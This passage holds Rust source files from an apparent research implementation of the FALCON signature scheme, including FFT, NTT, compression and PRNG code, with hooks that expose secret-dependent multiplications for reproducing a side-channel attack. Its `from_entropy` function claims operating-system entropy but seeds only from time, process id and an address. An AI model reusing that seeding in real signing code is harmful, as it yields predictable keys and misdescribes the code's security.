/// Negacyclic integer product via the fpr FFT, rounded back to integers.
fn product_via_fft(a: &[i64], b: &[i64]) -> Vec<i64> {
    let mut fa: Vec<Fpr> = a.iter().map(|&v| Fpr::from_i64(v)).collect();
    let mut fb: Vec<Fpr> = b.iter().map(|&v| Fpr::from_i64(v)).collect();
    fft(&mut fa);
    fft(&mut fb);
    poly_mul_fft(&mut fa, &fb);
    ifft(&mut fa);
    fa.iter().map(|x| x.rint()).collect()
}

/// The same product via the NTT (exact modulo q).
fn product_via_ntt(a: &[i64], b: &[i64], tables: &NttTables) -> Vec<i64> {
    let av: Vec<u32> = a.iter().map(|&v| mq_from_signed(v as i32)).collect();
    let bv: Vec<u32> = b.iter().map(|&v| mq_from_signed(v as i32)).collect();
    tables.poly_mul(&av, &bv).into_iter().map(|v| mq_to_signed(v) as i64).collect()
}

#[test]
fn fft_and_ntt_products_agree_mod_q() {
    let q = 12289i64;
    for logn in [2u32, 4, 6, 8] {
        let n = 1usize << logn;
        let tables = NttTables::new(logn);
        let a: Vec<i64> = (0..n).map(|i| ((i as i64 * 37 + 11) % 53) - 26).collect();
        let b: Vec<i64> = (0..n).map(|i| ((i as i64 * 91 + 3) % 47) - 23).collect();
        let via_fft = product_via_fft(&a, &b);
        let via_ntt = product_via_ntt(&a, &b, &tables);
        for i in 0..n {
            assert_eq!(
                via_fft[i].rem_euclid(q),
                via_ntt[i].rem_euclid(q),
                "logn={logn} i={i}: fft {} vs ntt {}",
                via_fft[i],
                via_ntt[i]
            );
        }
    }
}

#[test]
fn fft_product_is_exact_for_small_inputs() {
    // With coefficients this small the fpr FFT's rounded product is the
    // exact integer product (double precision has >30 bits of headroom).
    let n = 64usize;
    let a: Vec<i64> = (0..n).map(|i| (i as i64 % 7) - 3).collect();
    let b: Vec<i64> = (0..n).map(|i| (i as i64 % 5) - 2).collect();
    let via_fft = product_via_fft(&a, &b);
    // Schoolbook oracle.
    let mut want = vec![0i64; n];
    for (i, &ai) in a.iter().enumerate() {
        for (j, &bj) in b.iter().enumerate() {
            let k = (i + j) % n;
            let s = if i + j >= n { -1 } else { 1 };
            want[k] += s * ai * bj;
        }
    }
    assert_eq!(via_fft, want);
}

#[test]
fn public_key_relation_holds_through_both_stacks() {
    // h·f ≡ g (mod q): h comes from NTT arithmetic, while the signing
    // basis uses the FFT of the same polynomials — check both views.
    let mut rng = Prng::from_seed(b"cross transform key");
    for logn in [3u32, 5] {
        let kp = KeyPair::generate(LogN::new(logn).unwrap(), &mut rng);
        let sk = kp.signing_key();
        let f: Vec<i64> = sk.f().iter().map(|&v| v as i64).collect();
        let h: Vec<i64> = sk.h().iter().map(|&v| v as i64).collect();
        let tables = NttTables::new(logn);
        let hf = product_via_ntt(&h, &f, &tables);
        let g: Vec<i64> = sk.g().iter().map(|&v| v as i64).collect();
        assert_eq!(hf, g, "logn={logn}");
        // And through the FFT with post-hoc reduction.
        let hf_fft = product_via_fft(&h, &f);
        for i in 0..f.len() {
            assert_eq!(hf_fft[i].rem_euclid(12289), g[i].rem_euclid(12289), "logn={logn} i={i}");
        }
    }
}

#[test]
fn sign_verify_across_all_test_degrees() {
    let mut rng = Prng::from_seed(b"cross degrees");
    for logn in 1..=6u32 {
        let kp = KeyPair::generate(LogN::new(logn).unwrap(), &mut rng);
        let msg = format!("degree 2^{logn}");
        let sig = kp.signing_key().sign(msg.as_bytes(), &mut rng);
        assert!(kp.verifying_key().verify(msg.as_bytes(), &sig), "logn={logn}");
        assert!(!kp.verifying_key().verify(b"other", &sig), "logn={logn}");
    }
}
