//! Signature compression (the specification's `Compress`/`Decompress`).
//!
//! Each signed coefficient is stored as a sign bit, its 7 low magnitude
//! bits, and the remaining high bits in unary (`k` zeros and a
//! terminating one). The encoding is padded with zero bits to the fixed
//! signature length; decoding enforces canonicality (no minus zero, no
//! nonzero padding), as the reference implementation does.

/// Bit-level writer over a fixed-capacity byte buffer.
struct BitWriter {
    buf: Vec<u8>,
    acc: u32,
    nbits: u32,
    cap_bytes: usize,
}

impl BitWriter {
    fn new(cap_bytes: usize) -> Self {
        BitWriter { buf: Vec::with_capacity(cap_bytes), acc: 0, nbits: 0, cap_bytes }
    }

    /// Appends `n` bits (most significant first). Returns `false` on
    /// overflow of the capacity.
    fn push(&mut self, bits: u32, n: u32) -> bool {
        debug_assert!(n <= 24);
        self.acc = (self.acc << n) | (bits & ((1 << n) - 1));
        self.nbits += n;
        while self.nbits >= 8 {
            self.nbits -= 8;
            if self.buf.len() == self.cap_bytes {
                return false;
            }
            self.buf.push((self.acc >> self.nbits) as u8);
        }
        true
    }

    /// Zero-pads to the capacity and returns the buffer.
    fn finish(mut self) -> Option<Vec<u8>> {
        if self.nbits > 0 {
            let pad = 8 - self.nbits;
            if !self.push(0, pad) {
                return None;
            }
        }
        while self.buf.len() < self.cap_bytes {
            self.buf.push(0);
        }
        Some(self.buf)
    }
}

/// Bit-level reader.
struct BitReader<'a> {
    buf: &'a [u8],
    pos: usize,
    acc: u32,
    nbits: u32,
}

impl<'a> BitReader<'a> {
    fn new(buf: &'a [u8]) -> Self {
        BitReader { buf, pos: 0, acc: 0, nbits: 0 }
    }

    fn bit(&mut self) -> Option<u32> {
        if self.nbits == 0 {
            if self.pos == self.buf.len() {
                return None;
            }
            self.acc = self.buf[self.pos] as u32;
            self.pos += 1;
            self.nbits = 8;
        }
        self.nbits -= 1;
        Some((self.acc >> self.nbits) & 1)
    }

    fn bits(&mut self, n: u32) -> Option<u32> {
        let mut v = 0;
        for _ in 0..n {
            v = (v << 1) | self.bit()?;
        }
        Some(v)
    }

    /// True if every remaining bit is zero (canonical padding).
    fn rest_is_zero(&mut self) -> bool {
        while let Some(b) = self.bit() {
            if b != 0 {
                return false;
            }
        }
        true
    }
}

/// Compresses signed coefficients into exactly `out_len` bytes.
///
/// Returns `None` when the encoding does not fit (the signer then
/// restarts with a fresh salt) or when a coefficient magnitude is ≥ 2048
/// (out of the encodable range).
pub fn compress(s: &[i16], out_len: usize) -> Option<Vec<u8>> {
    let mut w = BitWriter::new(out_len);
    for &v in s {
        let sign = u32::from(v < 0);
        let m = v.unsigned_abs() as u32;
        if m >= 2048 {
            return None;
        }
        if !w.push(sign, 1) || !w.push(m & 0x7F, 7) {
            return None;
        }
        // High bits in unary: (m >> 7) zeros then a one.
        for _ in 0..(m >> 7) {
            if !w.push(0, 1) {
                return None;
            }
        }
        if !w.push(1, 1) {
            return None;
        }
    }
    w.finish()
}

/// Decompresses `n` signed coefficients from `buf`, enforcing canonical
/// encoding (returns `None` on malformed input).
pub fn decompress(buf: &[u8], n: usize) -> Option<Vec<i16>> {
    let mut r = BitReader::new(buf);
    let mut out = Vec::with_capacity(n);
    for _ in 0..n {
        let sign = r.bit()?;
        let low = r.bits(7)?;
        let mut high = 0u32;
        loop {
            match r.bit()? {
                1 => break,
                _ => {
                    high += 1;
                    if high >= 16 {
                        return None; // implies m >= 2048: non-canonical
                    }
                }
            }
        }
        let m = (high << 7) | low;
        if m == 0 && sign == 1 {
            return None; // minus zero is non-canonical
        }
        let v = m as i16;
        out.push(if sign == 1 { -v } else { v });
    }
    r.rest_is_zero().then_some(out)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn roundtrip_various_vectors() {
        let cases: Vec<Vec<i16>> = vec![
            vec![0; 8],
            vec![1, -1, 127, -127, 128, -128, 2047, -2047],
            (0..64).map(|i| ((i * 37) % 400 - 200) as i16).collect(),
        ];
        for s in cases {
            let bytes = compress(&s, 2 * s.len() + 16).expect("fits");
            let back = decompress(&bytes, s.len()).expect("decodes");
            assert_eq!(back, s);
        }
    }

    #[test]
    fn overflow_is_detected() {
        assert!(compress(&[2048], 100).is_none());
        assert!(compress(&[-4000], 100).is_none());
        // Too small a buffer.
        assert!(compress(&[2047; 32], 8).is_none());
    }

    #[test]
    fn minus_zero_rejected() {
        // sign=1, low7=0, terminator=1 -> 0b1_0000000_1 padded.
        let bytes = vec![0b1000_0000, 0b1000_0000, 0, 0];
        assert!(decompress(&bytes, 1).is_none());
    }

    #[test]
    fn nonzero_padding_rejected() {
        let s = vec![5i16, -3];
        let mut bytes = compress(&s, 8).unwrap();
        assert_eq!(decompress(&bytes, 2).unwrap(), s);
        *bytes.last_mut().unwrap() |= 1;
        assert!(decompress(&bytes, 2).is_none());
    }

    #[test]
    fn truncated_input_rejected() {
        let s = vec![100i16; 16];
        let bytes = compress(&s, 64).unwrap();
        assert!(decompress(&bytes[..4], 16).is_none());
    }

    #[test]
    fn fixed_width_output() {
        let s = vec![7i16; 16];
        let bytes = compress(&s, 100).unwrap();
        assert_eq!(bytes.len(), 100);
    }
}
