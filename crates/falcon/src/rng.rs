//! ChaCha20-based pseudorandom generator.
//!
//! FALCON's reference implementation drives its samplers from a ChaCha20
//! stream seeded with SHAKE256 output; this module reproduces that
//! construction. The generator is deliberately deterministic from its
//! seed so signing campaigns and attacks are reproducible.

use crate::shake::Shake256;

fn quarter_round(s: &mut [u32; 16], a: usize, b: usize, c: usize, d: usize) {
    s[a] = s[a].wrapping_add(s[b]);
    s[d] = (s[d] ^ s[a]).rotate_left(16);
    s[c] = s[c].wrapping_add(s[d]);
    s[b] = (s[b] ^ s[c]).rotate_left(12);
    s[a] = s[a].wrapping_add(s[b]);
    s[d] = (s[d] ^ s[a]).rotate_left(8);
    s[c] = s[c].wrapping_add(s[d]);
    s[b] = (s[b] ^ s[c]).rotate_left(7);
}

fn chacha20_block(key: &[u32; 8], counter: u64, nonce: u64, out: &mut [u8; 64]) {
    let mut s: [u32; 16] = [
        0x61707865,
        0x3320646E,
        0x79622D32,
        0x6B206574,
        key[0],
        key[1],
        key[2],
        key[3],
        key[4],
        key[5],
        key[6],
        key[7],
        counter as u32,
        (counter >> 32) as u32,
        nonce as u32,
        (nonce >> 32) as u32,
    ];
    let init = s;
    for _ in 0..10 {
        quarter_round(&mut s, 0, 4, 8, 12);
        quarter_round(&mut s, 1, 5, 9, 13);
        quarter_round(&mut s, 2, 6, 10, 14);
        quarter_round(&mut s, 3, 7, 11, 15);
        quarter_round(&mut s, 0, 5, 10, 15);
        quarter_round(&mut s, 1, 6, 11, 12);
        quarter_round(&mut s, 2, 7, 8, 13);
        quarter_round(&mut s, 3, 4, 9, 14);
    }
    for i in 0..16 {
        let w = s[i].wrapping_add(init[i]);
        out[4 * i..4 * i + 4].copy_from_slice(&w.to_le_bytes());
    }
}

/// Deterministic ChaCha20 generator seeded through SHAKE256.
///
/// ```
/// use falcon_sig::rng::Prng;
/// let mut a = Prng::from_seed(b"seed");
/// let mut b = Prng::from_seed(b"seed");
/// assert_eq!(a.next_u64(), b.next_u64());
/// ```
#[derive(Debug, Clone)]
pub struct Prng {
    key: [u32; 8],
    nonce: u64,
    counter: u64,
    buf: [u8; 64],
    pos: usize,
}

impl Prng {
    /// Seeds the generator from arbitrary bytes (expanded with SHAKE256).
    pub fn from_seed(seed: &[u8]) -> Prng {
        let mut raw = [0u8; 40];
        Shake256::digest(seed, &mut raw);
        let mut key = [0u32; 8];
        for (i, k) in key.iter_mut().enumerate() {
            *k = u32::from_le_bytes(raw[4 * i..4 * i + 4].try_into().expect("4 bytes"));
        }
        let nonce = u64::from_le_bytes(raw[32..40].try_into().expect("8 bytes"));
        Prng { key, nonce, counter: 0, buf: [0; 64], pos: 64 }
    }

    /// Seeds the generator from operating-system entropy mixed with a
    /// high-resolution timestamp (non-reproducible).
    pub fn from_entropy() -> Prng {
        use std::time::{SystemTime, UNIX_EPOCH};
        // ct: allow(entropy seeding is wall-clock by design; reproducible runs use from_seed)
        let t = SystemTime::now().duration_since(UNIX_EPOCH).unwrap_or_default();
        let pid = std::process::id();
        let addr = &t as *const _ as usize;
        let mut seed = Vec::new();
        seed.extend_from_slice(&t.as_nanos().to_le_bytes());
        seed.extend_from_slice(&pid.to_le_bytes());
        seed.extend_from_slice(&addr.to_le_bytes());
        Prng::from_seed(&seed)
    }

    fn refill(&mut self) {
        chacha20_block(&self.key, self.counter, self.nonce, &mut self.buf);
        self.counter += 1;
        self.pos = 0;
    }

    /// Size in bytes of [`Prng::export_state`]'s output.
    pub const STATE_LEN: usize = 49;

    /// Exports the complete generator state (key, nonce, block counter,
    /// intra-block position) as a fixed-size byte string, so long-running
    /// campaigns can checkpoint and later resume the exact stream.
    pub fn export_state(&self) -> [u8; Self::STATE_LEN] {
        let mut out = [0u8; Self::STATE_LEN];
        for (i, k) in self.key.iter().enumerate() {
            out[4 * i..4 * i + 4].copy_from_slice(&k.to_le_bytes());
        }
        out[32..40].copy_from_slice(&self.nonce.to_le_bytes());
        out[40..48].copy_from_slice(&self.counter.to_le_bytes());
        out[48] = self.pos as u8;
        out
    }

    /// Rebuilds a generator from [`Prng::export_state`] output. The
    /// buffered block is regenerated from the counter, so the restored
    /// stream continues bit-for-bit where the exported one stopped.
    ///
    /// Returns `None` when the intra-block position is out of range.
    pub fn import_state(bytes: &[u8; Self::STATE_LEN]) -> Option<Prng> {
        let pos = bytes[48] as usize;
        if pos > 64 {
            return None;
        }
        let mut key = [0u32; 8];
        for (i, k) in key.iter_mut().enumerate() {
            *k = u32::from_le_bytes(bytes[4 * i..4 * i + 4].try_into().expect("4 bytes"));
        }
        let nonce = u64::from_le_bytes(bytes[32..40].try_into().expect("8 bytes"));
        let counter = u64::from_le_bytes(bytes[40..48].try_into().expect("8 bytes"));
        let mut p = Prng { key, nonce, counter, buf: [0; 64], pos };
        if pos < 64 {
            // The buffered block was produced with the previous counter
            // value (refill post-increments).
            chacha20_block(&p.key, counter.wrapping_sub(1), p.nonce, &mut p.buf);
        }
        Some(p)
    }

    /// Next byte of the stream.
    #[inline]
    pub fn next_u8(&mut self) -> u8 {
        if self.pos >= 64 {
            self.refill();
        }
        let b = self.buf[self.pos];
        self.pos += 1;
        b
    }

    /// Next 16-bit little-endian word.
    pub fn next_u16(&mut self) -> u16 {
        u16::from_le_bytes([self.next_u8(), self.next_u8()])
    }

    /// Next 64-bit little-endian word.
    pub fn next_u64(&mut self) -> u64 {
        let mut b = [0u8; 8];
        self.fill(&mut b);
        u64::from_le_bytes(b)
    }

    /// Fills `out` with stream bytes.
    pub fn fill(&mut self, out: &mut [u8]) {
        for b in out.iter_mut() {
            *b = self.next_u8();
        }
    }

    /// A uniform value in `[0, bound)` by rejection (bound must be
    /// nonzero).
    pub fn below(&mut self, bound: u64) -> u64 {
        assert!(bound > 0);
        let zone = u64::MAX - u64::MAX % bound;
        loop {
            let v = self.next_u64();
            if v < zone {
                return v % bound;
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn chacha20_rfc7539_block_one() {
        // RFC 7539 §2.3.2 test vector (key 00..1f, counter 1, nonce
        // 00:00:00:09:00:00:00:4a:00:00:00:00 — our nonce layout is two
        // little-endian words, so reproduce the same state words).
        let mut key = [0u32; 8];
        for (i, k) in key.iter_mut().enumerate() {
            let b = [4 * i as u8, 4 * i as u8 + 1, 4 * i as u8 + 2, 4 * i as u8 + 3];
            *k = u32::from_le_bytes(b);
        }
        // State words 12..15 must be: 1, 0x09000000, 0x4a000000, 0.
        let counter = 1u64 | ((0x09000000u64) << 32);
        let nonce = 0x4a000000u64;
        let mut out = [0u8; 64];
        chacha20_block(&key, counter, nonce, &mut out);
        assert_eq!(
            &out[..16],
            &[
                0x10, 0xf1, 0xe7, 0xe4, 0xd1, 0x3b, 0x59, 0x15, 0x50, 0x0f, 0xdd, 0x1f, 0xa3, 0x20,
                0x71, 0xc4
            ]
        );
    }

    #[test]
    fn determinism_and_divergence() {
        let mut a = Prng::from_seed(b"one");
        let mut b = Prng::from_seed(b"one");
        let mut c = Prng::from_seed(b"two");
        let (x, y, z) = (a.next_u64(), b.next_u64(), c.next_u64());
        assert_eq!(x, y);
        assert_ne!(x, z);
    }

    #[test]
    fn below_is_in_range() {
        let mut r = Prng::from_seed(b"range");
        for bound in [1u64, 2, 3, 7, 12289, u64::MAX / 2 + 3] {
            for _ in 0..50 {
                assert!(r.below(bound) < bound);
            }
        }
    }

    #[test]
    fn state_roundtrip_resumes_stream_exactly() {
        let mut r = Prng::from_seed(b"state roundtrip");
        // Fresh state (pos == 64, counter == 0).
        let fresh = Prng::import_state(&r.export_state()).expect("valid state");
        let mut fresh = fresh;
        let mut orig = r.clone();
        for _ in 0..200 {
            assert_eq!(orig.next_u8(), fresh.next_u8());
        }
        // Mid-block state.
        for _ in 0..37 {
            r.next_u8();
        }
        let mut resumed = Prng::import_state(&r.export_state()).expect("valid state");
        for _ in 0..300 {
            assert_eq!(r.next_u64(), resumed.next_u64());
        }
        // Corrupt position is rejected.
        let mut bad = r.export_state();
        bad[48] = 65;
        assert!(Prng::import_state(&bad).is_none());
    }

    #[test]
    fn fill_advances_stream() {
        let mut r = Prng::from_seed(b"fill");
        let mut a = [0u8; 100];
        r.fill(&mut a);
        let mut b = [0u8; 100];
        r.fill(&mut b);
        assert_ne!(a, b);
    }
}
