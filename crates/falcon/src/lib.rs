//! A complete implementation of the FALCON post-quantum signature scheme.
//!
//! FALCON (Fast-Fourier lattice-based compact signatures over NTRU) is a
//! hash-and-sign scheme built on the NTRU lattice and the GPV trapdoor
//! sampler. This crate implements all of it from scratch:
//!
//! * key generation — Gaussian sampling of the private polynomials
//!   `(f, g)`, the recursive **NTRU equation solver** (`fG − gF = q`) over
//!   arbitrary-precision integers with Babai size reduction, and the
//!   ffLDL* Gram tree ([`keygen`]);
//! * signing — SHAKE256 hash-to-point, the fast Fourier transform over
//!   FALCON's emulated floating point ([`fft`]), fast Fourier sampling
//!   with the discrete Gaussian sampler `SamplerZ` ([`sampler`],
//!   [`ffsampling`]), and signature compression ([`codec`]);
//! * verification — NTT arithmetic modulo `q = 12289` ([`ntt`]).
//!
//! All floating-point arithmetic on the signing path uses
//! [`falcon_fpr::Fpr`], the emulated IEEE-754 double of the reference
//! implementation, which is what the *Falcon Down* side-channel attack
//! targets. [`SigningKey::sign_traced`] exposes the micro-operations of
//! the attacked `FFT(c) ⊙ FFT(f)` pointwise multiplication to a
//! [`falcon_fpr::MulObserver`].
//!
//! ```
//! use falcon_sig::{KeyPair, LogN, rng::Prng};
//!
//! let mut rng = Prng::from_seed(b"doc example seed");
//! // Tiny parameter set for a fast doctest; real deployments use
//! // LogN::N512 or LogN::N1024.
//! let kp = KeyPair::generate(LogN::new(4).unwrap(), &mut rng);
//! let sig = kp.signing_key().sign(b"message", &mut rng);
//! assert!(kp.verifying_key().verify(b"message", &sig));
//! ```

#![forbid(unsafe_code)]

pub mod codec;
pub mod ffsampling;
pub mod fft;
pub mod hash;
pub mod keygen;
pub mod keys;
pub mod ntt;
pub mod params;
pub mod poly;
pub mod rng;
pub mod sampler;
pub mod shake;
pub mod sign;
pub mod verify;
pub mod zint;

pub mod poly_big;

pub use keygen::{KeyPair, SigningKey, VerifyingKey};
pub use params::LogN;
pub use sign::Signature;
