//! Fast Fourier transform over FALCON's emulated floating point.
//!
//! FALCON represents a real polynomial `f ∈ R[x]/(x^n + 1)` in the FFT
//! domain by its values at the `n/2` complex roots of `x^n + 1` with
//! positive imaginary part, `ζ_j = exp(iπ(2j+1)/n)`; the other roots are
//! conjugates and carry no extra information for real `f`. The storage
//! layout is FALCON's: a slice of `n` [`Fpr`] values, the first half real
//! parts, the second half imaginary parts.
//!
//! Pointwise multiplication in this domain is the negacyclic product of
//! the polynomials — and the `FFT(c) ⊙ FFT(f)` instance of it during
//! signing is the computation attacked by *Falcon Down*:
//! [`poly_mul_fft_observed`] reports every floating-point multiplication
//! micro-op to a [`MulObserver`].

use falcon_fpr::{Fpr, MulObserver};
use std::sync::OnceLock;

/// A complex number over emulated floats.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub struct Cplx {
    /// Real part.
    pub re: Fpr,
    /// Imaginary part.
    pub im: Fpr,
}

// `add`/`sub`/`mul` follow the reference FPC_* macro names; Cplx is a
// plain value type and deliberately does not overload operators.
#[allow(clippy::should_implement_trait)]
impl Cplx {
    /// Zero.
    pub const ZERO: Cplx = Cplx { re: Fpr::ZERO, im: Fpr::ZERO };

    /// Builds a complex number from parts.
    #[inline]
    pub fn new(re: Fpr, im: Fpr) -> Cplx {
        Cplx { re, im }
    }

    /// Complex addition.
    #[inline]
    pub fn add(self, o: Cplx) -> Cplx {
        Cplx::new(self.re + o.re, self.im + o.im)
    }

    /// Complex subtraction.
    #[inline]
    pub fn sub(self, o: Cplx) -> Cplx {
        Cplx::new(self.re - o.re, self.im - o.im)
    }

    /// Complex multiplication (four real products, as in the reference
    /// `FPC_MUL` macro).
    #[inline]
    pub fn mul(self, o: Cplx) -> Cplx {
        // ct: secret(self, o)
        let m0 = self.re * o.re;
        let m1 = self.im * o.im;
        let m2 = self.re * o.im;
        let m3 = self.im * o.re;
        Cplx::new(m0 - m1, m2 + m3)
        // ct: end
    }

    /// Complex conjugate.
    #[inline]
    pub fn conj(self) -> Cplx {
        Cplx::new(self.re, self.im.neg())
    }

    /// Multiplication by a real scalar.
    #[inline]
    pub fn scale(self, s: Fpr) -> Cplx {
        Cplx::new(self.re * s, self.im * s)
    }

    /// Squared modulus `re² + im²`.
    #[inline]
    pub fn norm_sq(self) -> Fpr {
        self.re.sqr() + self.im.sqr()
    }

    /// Complex division.
    #[inline]
    pub fn div(self, o: Cplx) -> Cplx {
        let inv = o.norm_sq().inv();
        self.mul(o.conj()).scale(inv)
    }
}

/// Returns the root table for size `n = 2^logn`: `ζ_j = exp(iπ(2j+1)/n)`
/// for `j < n/2`.
fn roots(logn: u32) -> &'static [Cplx] {
    static TABLES: OnceLock<Vec<Vec<Cplx>>> = OnceLock::new();
    let tables = TABLES.get_or_init(|| {
        let mut all = Vec::with_capacity(12);
        for l in 0..=11u32 {
            let n = 1usize << l;
            let hn = n / 2;
            let mut t = Vec::with_capacity(hn);
            for j in 0..hn {
                let ang = core::f64::consts::PI * (2 * j + 1) as f64 / n as f64;
                t.push(Cplx::new(Fpr::from(ang.cos()), Fpr::from(ang.sin())));
            }
            all.push(t);
        }
        all
    });
    &tables[logn as usize]
}

fn fft_complex(coeffs: &[Fpr]) -> Vec<Cplx> {
    let n = coeffs.len();
    debug_assert!(n.is_power_of_two() && n >= 2);
    if n == 2 {
        return vec![Cplx::new(coeffs[0], coeffs[1])];
    }
    let logn = n.trailing_zeros();
    let f0: Vec<Fpr> = coeffs.iter().step_by(2).copied().collect();
    let f1: Vec<Fpr> = coeffs.iter().skip(1).step_by(2).copied().collect();
    let g0 = fft_complex(&f0);
    let g1 = fft_complex(&f1);
    let z = roots(logn);
    let hn = n / 2;
    let mut out = vec![Cplx::ZERO; hn];
    for j in 0..n / 4 {
        out[j] = g0[j].add(z[j].mul(g1[j]));
        let k = hn - 1 - j;
        out[k] = g0[j].conj().add(z[k].mul(g1[j].conj()));
    }
    out
}

fn ifft_complex(vals: &[Cplx]) -> Vec<Fpr> {
    let hn = vals.len();
    let n = 2 * hn;
    if n == 2 {
        return vec![vals[0].re, vals[0].im];
    }
    let logn = n.trailing_zeros();
    let z = roots(logn);
    let qn = n / 4;
    let mut g0 = vec![Cplx::ZERO; qn];
    let mut g1 = vec![Cplx::ZERO; qn];
    for j in 0..qn {
        let a = vals[j];
        let b = vals[hn - 1 - j].conj();
        g0[j] = a.add(b).scale(Fpr::ONEHALF);
        g1[j] = a.sub(b).scale(Fpr::ONEHALF).mul(z[j].conj());
    }
    let f0 = ifft_complex(&g0);
    let f1 = ifft_complex(&g1);
    let mut out = vec![Fpr::ZERO; n];
    for i in 0..hn {
        out[2 * i] = f0[i];
        out[2 * i + 1] = f1[i];
    }
    out
}

/// In-place forward FFT on a polynomial in FALCON layout (`n` values:
/// coefficients in, `[re | im]` halves out).
///
/// # Panics
///
/// Panics if the length is not a power of two at least 2.
pub fn fft(f: &mut [Fpr]) {
    let n = f.len();
    assert!(n.is_power_of_two() && n >= 2, "invalid FFT size {n}");
    let vals = fft_complex(f);
    let hn = n / 2;
    for (j, v) in vals.into_iter().enumerate() {
        f[j] = v.re;
        f[j + hn] = v.im;
    }
}

/// In-place inverse FFT (FALCON layout in, coefficients out).
pub fn ifft(f: &mut [Fpr]) {
    let n = f.len();
    assert!(n.is_power_of_two() && n >= 2, "invalid FFT size {n}");
    let hn = n / 2;
    let vals: Vec<Cplx> = (0..hn).map(|j| Cplx::new(f[j], f[j + hn])).collect();
    f.copy_from_slice(&ifft_complex(&vals));
}

/// Reads the `j`-th complex value of an FFT-layout slice.
#[inline]
pub fn at(f: &[Fpr], j: usize) -> Cplx {
    Cplx::new(f[j], f[j + f.len() / 2])
}

/// Writes the `j`-th complex value of an FFT-layout slice.
#[inline]
pub fn set(f: &mut [Fpr], j: usize, v: Cplx) {
    let hn = f.len() / 2;
    f[j] = v.re;
    f[j + hn] = v.im;
}

/// Elementwise addition (either domain).
pub fn poly_add(a: &mut [Fpr], b: &[Fpr]) {
    for (x, y) in a.iter_mut().zip(b) {
        *x += *y;
    }
}

/// Elementwise subtraction (either domain).
pub fn poly_sub(a: &mut [Fpr], b: &[Fpr]) {
    for (x, y) in a.iter_mut().zip(b) {
        *x -= *y;
    }
}

/// Elementwise negation (either domain).
pub fn poly_neg(a: &mut [Fpr]) {
    for x in a.iter_mut() {
        *x = x.neg();
    }
}

/// FFT-domain adjoint: `a ← adj(a)` (complex conjugation pointwise).
pub fn poly_adj_fft(a: &mut [Fpr]) {
    let hn = a.len() / 2;
    for x in a[hn..].iter_mut() {
        *x = x.neg();
    }
}

/// FFT-domain pointwise multiplication `a ← a ⊙ b`.
pub fn poly_mul_fft(a: &mut [Fpr], b: &[Fpr]) {
    let hn = a.len() / 2;
    // ct: secret(a, b)
    for j in 0..hn {
        set(a, j, at(a, j).mul(at(b, j)));
    }
    // ct: end
}

/// FFT-domain pointwise multiplication `a ← a ⊙ b` where `a` holds the
/// secret values, reporting every floating-point multiplication to `obs`.
///
/// Each of the four real multiplications of a complex product is preceded
/// by a `begin_coefficient` notification carrying the flat index of the
/// **secret** `Fpr` operand involved (`j` for real parts, `j + n/2` for
/// imaginary parts), exactly the granularity at which the *Falcon Down*
/// attack recovers `FFT(f)`.
pub fn poly_mul_fft_observed<O: MulObserver>(a: &mut [Fpr], b: &[Fpr], obs: &mut O) {
    let n = a.len();
    let hn = n / 2;
    // ct: secret(a, b)
    for j in 0..hn {
        let x = at(a, j);
        let y = at(b, j);
        obs.begin_coefficient(j);
        let m0 = x.re.mul_observed(y.re, obs);
        obs.begin_coefficient(j + hn);
        let m1 = x.im.mul_observed(y.im, obs);
        obs.begin_coefficient(j);
        let m2 = x.re.mul_observed(y.im, obs);
        obs.begin_coefficient(j + hn);
        let m3 = x.im.mul_observed(y.re, obs);
        set(a, j, Cplx::new(m0 - m1, m2 + m3));
    }
    // ct: end
}

/// FFT-domain multiplication by the adjoint: `a ← a ⊙ adj(b)`.
pub fn poly_muladj_fft(a: &mut [Fpr], b: &[Fpr]) {
    let hn = a.len() / 2;
    for j in 0..hn {
        set(a, j, at(a, j).mul(at(b, j).conj()));
    }
}

/// FFT-domain self-adjoint product `a ← a ⊙ adj(a) = |a|²` (result has
/// zero imaginary parts).
pub fn poly_mulselfadj_fft(a: &mut [Fpr]) {
    let hn = a.len() / 2;
    for j in 0..hn {
        set(a, j, Cplx::new(at(a, j).norm_sq(), Fpr::ZERO));
    }
}

/// Multiplication by a real constant (either domain).
pub fn poly_mulconst(a: &mut [Fpr], c: Fpr) {
    for x in a.iter_mut() {
        *x *= c;
    }
}

/// FFT-domain pointwise division `a ← a / b`.
pub fn poly_div_fft(a: &mut [Fpr], b: &[Fpr]) {
    let hn = a.len() / 2;
    for j in 0..hn {
        set(a, j, at(a, j).div(at(b, j)));
    }
}

/// Splits `f` (FFT layout, size `n`) into the transforms of its even and
/// odd coefficient halves (each FFT layout, size `n/2`); at `n = 2` the
/// halves are the two single real values.
///
/// This is the `split` operation of fast Fourier sampling.
#[allow(clippy::needless_range_loop)] // j indexes paired butterfly roots
pub fn poly_split_fft(f: &[Fpr]) -> (Vec<Fpr>, Vec<Fpr>) {
    let n = f.len();
    let hn = n / 2;
    if n == 2 {
        return (vec![f[0]], vec![f[1]]);
    }
    let logn = n.trailing_zeros();
    let z = roots(logn);
    let qn = n / 4;
    let mut f0 = vec![Fpr::ZERO; hn];
    let mut f1 = vec![Fpr::ZERO; hn];
    for j in 0..qn {
        let a = at(f, j);
        let b = at(f, hn - 1 - j).conj();
        set(&mut f0, j, a.add(b).scale(Fpr::ONEHALF));
        set(&mut f1, j, a.sub(b).scale(Fpr::ONEHALF).mul(z[j].conj()));
    }
    (f0, f1)
}

/// Inverse of [`poly_split_fft`].
pub fn poly_merge_fft(f0: &[Fpr], f1: &[Fpr]) -> Vec<Fpr> {
    let hn = f0.len();
    let n = 2 * hn;
    if n == 2 {
        return vec![f0[0], f1[0]];
    }
    let logn = n.trailing_zeros();
    let z = roots(logn);
    let qn = n / 4;
    let mut f = vec![Fpr::ZERO; n];
    for j in 0..qn {
        let a = at(f0, j);
        let b = at(f1, j);
        set(&mut f, j, a.add(z[j].mul(b)));
        set(&mut f, hn - 1 - j, a.conj().add(z[hn - 1 - j].mul(b.conj())));
    }
    f
}

/// Converts signed integer coefficients to an `Fpr` polynomial.
pub fn poly_from_ints(v: &[i16]) -> Vec<Fpr> {
    v.iter().map(|&c| Fpr::from_i64(c as i64)).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn close(a: f64, b: f64, tol: f64) -> bool {
        (a - b).abs() <= tol * (1.0 + a.abs().max(b.abs()))
    }

    fn to_f64s(v: &[Fpr]) -> Vec<f64> {
        v.iter().map(|x| x.to_f64()).collect()
    }

    #[test]
    fn fft_ifft_roundtrip() {
        for logn in 1..=9u32 {
